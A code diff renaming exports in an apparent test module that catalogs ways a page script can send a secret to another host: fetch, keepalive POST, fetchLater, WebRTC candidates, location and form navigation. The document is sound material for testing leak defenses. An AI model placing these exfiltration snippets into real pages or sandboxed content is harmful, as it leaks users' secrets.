@@ -1,6 +1,6 @@
 /**
  * Methods by which a script of a page can send data to another program. Each function runs in the page. It is sent as
- * text, so it must not refer to anything outside itself. Methods that navigate away from the page are in `leavingWays`.
+ * text, so it must not refer to anything outside itself. Methods that navigate away from the page are in `navigatingMethods`.
  */
 
 export interface Target {
@@ -62,7 +62,7 @@ const candidate = (form: 'udp' | 'tcp'): string =>
   }`
 
 /** The methods by name, as source text. */
-export const stayingWays: Readonly<Record<string, string>> = {
+export const pageMethods: Readonly<Record<string, string>> = {
   fetch: `({ tcp, secret }) => fetch('http://' + tcp + '/' + secret, { mode: 'no-cors' })`,
   'fetch with keepalive': `({ tcp, secret }) => fetch('http://' + tcp, { method: 'POST', mode: 'no-cors', keepalive: true, body: secret })`,
   fetchLater: `({ tcp, secret }) => fetchLater('http://' + tcp + '/' + secret, { activateAfter: 0 })`,
@@ -152,7 +152,7 @@ export const stayingWays: Readonly<Record<string, string>> = {
   'WebRTC, candidate over TCP': candidate('tcp'),
 }
 
-export const leavingWays: Readonly<Record<string, string>> = {
+export const navigatingMethods: Readonly<Record<string, string>> = {
   location: `({ tcp, secret }) => { location.href = 'http://' + tcp + '/' + secret }`,
   form: `({ tcp, secret }) => {
     const form = document.createElement('form')
